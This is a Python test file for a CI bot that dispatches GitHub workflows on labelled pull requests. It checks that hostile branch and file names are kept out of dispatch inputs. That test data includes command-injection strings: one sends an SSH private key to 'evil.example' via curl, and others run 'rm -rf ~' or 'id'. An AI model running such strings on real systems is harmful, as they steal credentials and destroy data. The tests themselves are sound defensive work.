"""``pg-bot dispatch`` against the local fake GitHub: permission check, label removal, one comment, one
validated dispatch, the synchronize policy, and hostile PRs (metacharacters, ``..``, 10,000 files)."""

from __future__ import annotations

import json
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from fake_github import FakeGitHub, FakeIssue
from fake_github.server import Api

from bot import cli
from bot import config as cfg
from bot.ci.dispatch import MARKER, EventError, handle, parse_event
from bot.ci.validate import DispatchInputs
from bot.github import GitHubClient

REPO = "org/ds"
FORK = "contrib/ds"
LABEL = "ci/xpu-distributed"
RULES = f"""
version: 1
areas:
  - name: moe
    paths: [deepspeed/moe/**]
    tests: [tests/unit/moe]
  - name: other
    paths: ["**"]
ci:
  label: {LABEL}
  workflow: xpu-distributed.yml
  workflow_ref: master
  test_root: tests
  full_suite: [tests/unit]
  max_test_paths: 4
  run_all_when: [deepspeed/comm/**]
"""
BASE = {"deepspeed/moe/layer.py": "x = 1\n", "README.md": "hi\n"}
HEAD = {"deepspeed/moe/layer.py": "x = 2\n", "README.md": "hi\n"}
PEOPLE = {"maint": "maintain", "admin1": "admin", "writer": "write", "triager": "triage", "reader": "read"}


@pytest.fixture
def config() -> cfg.Config:
    return cfg.parse(RULES)


@pytest.fixture
def fake(fake_github: FakeGitHub) -> FakeGitHub:
    fake_github.add_repo(REPO, files=BASE, collaborators=PEOPLE)
    fake_github.repos[REPO].workflows = {"xpu-distributed.yml", "cpu-distributed.yml"}
    return fake_github


def client(fake: FakeGitHub) -> GitHubClient:
    return GitHubClient("t0ken", REPO, base_url=fake.url, throttle=False, retry=0)


def open_pr(fake: FakeGitHub, head: dict[str, str] | None = None, labels: list[str] | None = None,
            **kw: Any) -> FakeIssue:
    return fake.add_pull(REPO, base=BASE, head=HEAD if head is None else head,
                         labels=[LABEL] if labels is None else labels, head_repo=FORK, **kw)


def event(fake: FakeGitHub, pr: FakeIssue, action: str, sender: str, label: str | None = LABEL) -> dict[str, Any]:
    """The pull_request_target payload GitHub would send: its pull_request is the API's PR object."""
    api = Api(fake)
    repo = fake.repos[REPO]
    data: dict[str, Any] = {"action": action, "number": pr.number, "pull_request": api.pull_json(repo, pr),
                            "repository": api.repo_json(REPO), "sender": api.user(sender)}
    if action == "labeled":
        data["label"] = api.labels_json(repo, [label or LABEL])[0]
    return data


def comments(pr: FakeIssue) -> list[dict[str, Any]]:
    return [c for c in pr.comments if MARKER in c["body"]]


def run(fake: FakeGitHub, pr: FakeIssue, action: str, sender: str, config: cfg.Config, **kw: Any) -> Any:
    return handle(parse_event(event(fake, pr, action, sender, **kw), "pull_request_target"), client(fake), config)


# ---------------------------------------------------------------- labeled


@pytest.mark.parametrize("who", ["maint", "admin1", "writer"])
def test_maintainer_label_dispatches_once_with_validated_inputs_and_one_comment(
        fake: FakeGitHub, config: cfg.Config, who: str) -> None:
    pr = open_pr(fake)
    outcome = run(fake, pr, "labeled", who, config)
    assert outcome.dispatched
    (d,) = fake.repos[REPO].dispatches
    assert (d["workflow"], d["ref"]) == ("xpu-distributed.yml", "master")
    inputs = DispatchInputs.from_inputs(d["inputs"], "tests", 4)  # what the job re-validates
    assert (inputs.repo, inputs.sha, inputs.pr) == (FORK, pr.head_sha, pr.number)
    assert inputs.tests == ("tests/unit/moe",)
    (c,) = comments(pr)
    assert pr.head_sha in c["body"] and "`tests/unit/moe`" in c["body"] and "xpu-distributed.yml" in c["body"]
    assert LABEL in pr.labels
    # the permission came from the API, for the sender
    assert fake.requests("GET", rf"/collaborators/{who}/permission$")


def test_relabel_updates_the_same_comment(fake: FakeGitHub, config: cfg.Config) -> None:
    pr = open_pr(fake)
    run(fake, pr, "labeled", "maint", config)
    run(fake, pr, "labeled", "maint", config)
    assert len(fake.repos[REPO].dispatches) == 2
    assert len(comments(pr)) == 1


@pytest.mark.parametrize("who", ["reader", "triager", "stranger"])
def test_label_from_user_without_write_is_removed_with_a_comment(fake: FakeGitHub, config: cfg.Config,
                                                                 who: str) -> None:
    pr = open_pr(fake)
    outcome = run(fake, pr, "labeled", who, config)
    assert outcome.action == "rejected"
    assert fake.repos[REPO].dispatches == []
    assert LABEL not in pr.labels
    (c,) = comments(pr)
    role = PEOPLE.get(who, "none")
    assert f"`{who}`" in c["body"] and f"`{role}`" in c["body"] and "write, maintain or admin" in c["body"]


def test_event_author_association_is_not_trusted(fake: FakeGitHub, config: cfg.Config) -> None:
    pr = open_pr(fake)
    data = event(fake, pr, "labeled", "reader")
    data["pull_request"]["author_association"] = "OWNER"
    data["sender"]["site_admin"] = True
    outcome = handle(parse_event(data), client(fake), config)
    assert outcome.action == "rejected" and fake.repos[REPO].dispatches == []


def test_other_labels_are_ignored(fake: FakeGitHub, config: cfg.Config) -> None:
    pr = open_pr(fake, labels=["bug"])
    outcome = run(fake, pr, "labeled", "reader", config, label="bug")
    assert outcome.action == "ignored"
    assert pr.labels == ["bug"] and pr.comments == [] and fake.repos[REPO].dispatches == []
    assert fake.requests("GET", r"/permission$") == []


def test_no_dispatch_when_the_head_moved_after_the_label(fake: FakeGitHub, config: cfg.Config) -> None:
    pr = open_pr(fake)
    data = event(fake, pr, "labeled", "maint")  # label added on the old head ...
    fake.push(REPO, pr.number, {**HEAD, "deepspeed/moe/layer.py": "x = 3\n"})  # ... then a push
    outcome = handle(parse_event(data), client(fake), config)
    assert outcome.action == "ignored" and "moved" in outcome.message
    assert fake.repos[REPO].dispatches == []


def test_no_dispatch_when_the_label_was_removed_meanwhile(fake: FakeGitHub, config: cfg.Config) -> None:
    pr = open_pr(fake)
    data = event(fake, pr, "labeled", "maint")
    pr.labels.remove(LABEL)
    assert handle(parse_event(data), client(fake), config).action == "ignored"
    assert fake.repos[REPO].dispatches == []


def test_closed_pr_is_not_dispatched(fake: FakeGitHub, config: cfg.Config) -> None:
    pr = open_pr(fake)
    data = event(fake, pr, "labeled", "maint")
    pr.state = "closed"
    outcome = handle(parse_event(data), client(fake), config)
    assert outcome.action == "ignored" and "closed" in outcome.message
    assert fake.repos[REPO].dispatches == []


def test_deleted_fork_is_refused_with_a_comment(fake: FakeGitHub, config: cfg.Config) -> None:
    pr = open_pr(fake)
    data = event(fake, pr, "labeled", "maint")
    data["pull_request"]["head"]["repo"] = None
    outcome = handle(parse_event(data), client(fake), config)
    assert outcome.action == "refused" and fake.repos[REPO].dispatches == []
    assert "deleted" in comments(pr)[0]["body"]


# ---------------------------------------------------------------- synchronize


def test_push_to_labelled_pr_removes_label_by_default(fake: FakeGitHub, config: cfg.Config) -> None:
    assert config.ci.on_synchronize == "remove-label"
    pr = open_pr(fake)
    run(fake, pr, "labeled", "maint", config)
    new_sha = fake.push(REPO, pr.number, {**HEAD, "deepspeed/moe/layer.py": "x = 3\n"})
    outcome = run(fake, pr, "synchronize", "contributor", config)
    assert outcome.action == "label-removed"
    assert len(fake.repos[REPO].dispatches) == 1  # only the first, approved head
    assert LABEL not in pr.labels
    (c,) = comments(pr)  # the dispatch comment, updated in place
    assert new_sha in c["body"] and "re-adds" in c["body"]


def test_push_to_labelled_pr_redispatches_when_configured(fake: FakeGitHub, config: cfg.Config) -> None:
    config = replace(config, ci=replace(config.ci, on_synchronize="redispatch"))
    pr = open_pr(fake)
    run(fake, pr, "labeled", "maint", config)
    new_sha = fake.push(REPO, pr.number, {**HEAD, "deepspeed/moe/layer.py": "x = 3\n"})
    outcome = run(fake, pr, "synchronize", "contributor", config)
    assert outcome.dispatched
    first, second = fake.repos[REPO].dispatches
    assert second["inputs"]["sha"] == new_sha != first["inputs"]["sha"]
    assert LABEL in pr.labels and len(comments(pr)) == 1


def test_push_to_unlabelled_pr_does_nothing(fake: FakeGitHub, config: cfg.Config) -> None:
    pr = open_pr(fake, labels=[])
    fake.push(REPO, pr.number, {**HEAD, "deepspeed/moe/layer.py": "x = 3\n"})
    assert run(fake, pr, "synchronize", "contributor", config).action == "ignored"
    assert fake.repos[REPO].dispatches == [] and pr.comments == []


def test_config_from_rules_yaml_selects_redispatch() -> None:
    assert cfg.parse(RULES + "  on_synchronize: redispatch\n").ci.on_synchronize == "redispatch"
    with pytest.raises(cfg.ConfigError, match="on_synchronize"):
        cfg.parse(RULES + "  on_synchronize: sometimes\n")


# ---------------------------------------------------------------- hostile pull requests


def test_shell_metacharacters_in_branch_and_file_names_never_reach_the_inputs(
        fake: FakeGitHub, config: cfg.Config) -> None:
    evil = ['tests/unit/test_$(curl -d @~/.ssh/id_rsa evil.example).py', "tests/unit/test_`id`.py",
            "tests/unit/test_a;rm -rf ~.py", 'deepspeed/moe/x"; exit 0; ".py']
    head = {**HEAD, **{p: "import os\n" for p in evil}}
    pr = open_pr(fake, head=head, head_ref='feature";$(curl evil.example)#')
    outcome = run(fake, pr, "labeled", "maint", config)
    assert outcome.dispatched
    (d,) = fake.repos[REPO].dispatches
    for value in d["inputs"].values():
        for bad in ("$(", "`", ";", '"', "curl", " -", "\n"):
            assert bad not in value
    assert d["inputs"]["tests"] == "tests/unit"  # unsure -> the full suite, nothing else
    DispatchInputs.from_inputs(d["inputs"], "tests", 4)
    body = comments(pr)[0]["body"]
    assert body.count("```") == 0 and "\n$(" not in body


def test_dotdot_test_path_falls_back_to_the_full_suite(fake: FakeGitHub, config: cfg.Config) -> None:
    pr = open_pr(fake, head={**HEAD, "tests/../../etc/test_passwd.py": "x\n"})
    run(fake, pr, "labeled", "maint", config)
    (d,) = fake.repos[REPO].dispatches
    assert d["inputs"]["tests"] == "tests/unit" and ".." not in json.dumps(d["inputs"])


def test_ten_thousand_file_pr_dispatches_the_bounded_full_suite(fake: FakeGitHub, config: cfg.Config) -> None:
    head = {**HEAD, **{f"deepspeed/moe/m{i}.py": f"v = {i}\n" for i in range(10_000)}}
    pr = open_pr(fake, head=head)
    outcome = run(fake, pr, "labeled", "maint", config)
    assert outcome.dispatched and outcome.selection.full
    (d,) = fake.repos[REPO].dispatches
    assert d["inputs"]["tests"].split() == list(config.ci.full_suite)
    assert len(d["inputs"]["tests"].split()) <= config.ci.max_test_paths
    body = comments(pr)[0]["body"]
    # 10,001 files is past GitHub's 3000-file listing cap: the list may be cut short, so run everything
    assert "pagination cap" in body and len(body) < 5000


def test_misconfigured_area_tests_fall_back_to_the_full_suite(fake: FakeGitHub) -> None:
    config = cfg.parse(RULES.replace("tests: [tests/unit/moe]", "tests: [--pdb]"))
    pr = open_pr(fake)
    outcome = run(fake, pr, "labeled", "maint", config)
    assert outcome.dispatched and outcome.inputs["tests"] == "tests/unit"


def test_invalid_full_suite_refuses_to_dispatch(fake: FakeGitHub) -> None:
    config = cfg.parse(RULES.replace("full_suite: [tests/unit]", "full_suite: ['tests/unit; id']"))
    pr = open_pr(fake, head={**HEAD, "deepspeed/comm/comm.py": "x\n"})
    outcome = run(fake, pr, "labeled", "maint", config)
    assert outcome.action == "refused" and fake.repos[REPO].dispatches == []
    assert "did not dispatch" in comments(pr)[0]["body"]


# ---------------------------------------------------------------- events and the command line


@pytest.mark.parametrize("mutate, message", [
    (lambda d: d.pop("pull_request"), "pull_request"),
    (lambda d: d["pull_request"]["head"].update(sha="HEAD"), "sha"),
    (lambda d: d["pull_request"].update(number="1; id"), "number"),
    (lambda d: d["repository"].update(full_name="a/b/c"), "repo"),
    (lambda d: d.pop("sender"), "sender"),
    (lambda d: d["pull_request"].update(labels=[{"nom": 1}]), "label"),
])
def test_malformed_events_are_clear_errors(fake: FakeGitHub, mutate: Any, message: str) -> None:
    data = event(fake, open_pr(fake), "labeled", "maint")
    mutate(data)
    with pytest.raises(EventError, match=message):
        parse_event(data)


def test_non_pull_request_event_name_is_rejected(fake: FakeGitHub) -> None:
    with pytest.raises(EventError, match="push"):
        parse_event(event(fake, open_pr(fake), "labeled", "maint"), "push")


def test_cli_handles_an_event_file(fake: FakeGitHub, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                   capsys: pytest.CaptureFixture[str]) -> None:
    rules = tmp_path / "rules.yaml"
    rules.write_text(RULES)
    pr = open_pr(fake)
    path = tmp_path / "event.json"
    path.write_text(json.dumps(event(fake, pr, "labeled", "maint")))
    monkeypatch.setenv("GITHUB_TOKEN", "t0ken")
    monkeypatch.setenv("GITHUB_EVENT_NAME", "pull_request_target")
    code = cli.main(["dispatch", "--config", str(rules), "--event", str(path), "--api-url", fake.url])
    assert code == 0
    assert "dispatched" in capsys.readouterr().out
    assert len(fake.repos[REPO].dispatches) == 1
    assert {r.authorization for r in fake.requests()} == {"token t0ken"}


def test_cli_dry_run_reads_but_writes_nothing(fake: FakeGitHub, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                              capsys: pytest.CaptureFixture[str]) -> None:
    rules = tmp_path / "rules.yaml"
    rules.write_text(RULES)
    pr = open_pr(fake)
    path = tmp_path / "event.json"
    path.write_text(json.dumps(event(fake, pr, "labeled", "reader")))
    monkeypatch.setenv("GITHUB_TOKEN", "t0ken")
    monkeypatch.setenv("GITHUB_EVENT_PATH", str(path))  # no --event: read from the environment
    assert cli.main(["dispatch", "--config", str(rules), "--api-url", fake.url, "--dry-run"]) == 0
    out = capsys.readouterr().out
    assert "would remove label" in out and "would post" in out
    assert LABEL in pr.labels and pr.comments == []
    assert [r for r in fake.requests() if r.method != "GET"] == []


def test_cli_bad_event_file_and_missing_token_exit_2(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                     capsys: pytest.CaptureFixture[str]) -> None:
    bad = tmp_path / "event.json"
    bad.write_text("{not json")
    monkeypatch.delenv("GITHUB_EVENT_PATH", raising=False)
    assert cli.main(["dispatch", "--event", str(bad)]) == 2
    assert "not JSON" in capsys.readouterr().err
    assert cli.main(["dispatch"]) == 2
    assert "GITHUB_EVENT_PATH" in capsys.readouterr().err
    bad.write_text(json.dumps({"action": "labeled"}))
    assert cli.main(["dispatch", "--event", str(bad)]) == 2
    assert "pull_request" in capsys.readouterr().err


def test_cli_api_failure_exits_3(fake: FakeGitHub, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                 capsys: pytest.CaptureFixture[str]) -> None:
    rules = tmp_path / "rules.yaml"
    rules.write_text(RULES)
    pr = open_pr(fake)
    path = tmp_path / "event.json"
    path.write_text(json.dumps(event(fake, pr, "labeled", "maint")))
    fake.fail(404, path=r"/permission$", times=1, message="Not Found")
    fake.fail(401, times=50)
    monkeypatch.setenv("GITHUB_TOKEN", "t0ken")
    assert cli.main(["dispatch", "--config", str(rules), "--event", str(path), "--api-url", fake.url]) == 3
    assert "GitHub API error" in capsys.readouterr().err
    assert fake.repos[REPO].dispatches == []


# ---------------------------------------------------------------- forged markers, hostile names in the comment


def test_a_forged_dispatch_comment_is_neither_adopted_nor_edited(fake: FakeGitHub, config: cfg.Config) -> None:
    pr = open_pr(fake)
    fake.add_token("mallory-token", "mallory")
    forged = GitHubClient("mallory-token", REPO, base_url=fake.url, throttle=False).upsert_marked_comment(
        pr.number, MARKER, "**pg-bot dispatched** everything, all green")
    quoted = {"id": 1, "issue": pr.number, "user": "github-actions[bot]", "body": f"quoting {MARKER}"}
    pr.comments.append(quoted)
    run(fake, pr, "labeled", "maint", config)
    run(fake, pr, "labeled", "maint", config)
    by_id = {c["id"]: c for c in pr.comments}
    assert by_id[forged]["body"] == f"{MARKER}\n**pg-bot dispatched** everything, all green"
    assert "edits" not in by_id[forged] and "edits" not in quoted
    ours = [c for c in pr.comments if c["body"].startswith(MARKER) and c["user"] == "github-actions[bot]"]
    assert len(ours) == 1 and "xpu-distributed.yml" in ours[0]["body"]


def test_file_names_in_the_dispatch_comment_are_inert(fake: FakeGitHub, config: cfg.Config) -> None:
    name = "deepspeed/comm/<!-- pg-bot:summary -->`**b**`[l](https://e.example).py"  # run_all_when: named
    pr = open_pr(fake, head={**HEAD, name: "y = 1\n"})
    run(fake, pr, "labeled", "maint", config)
    (c,) = comments(pr)
    assert c["body"].count("<!--") == 1 and c["body"].startswith(MARKER)
    assert "``deepspeed/comm/<!\u200b-- pg-bot:summary -->`**b**`[l](https://e.example).py``" in c["body"]
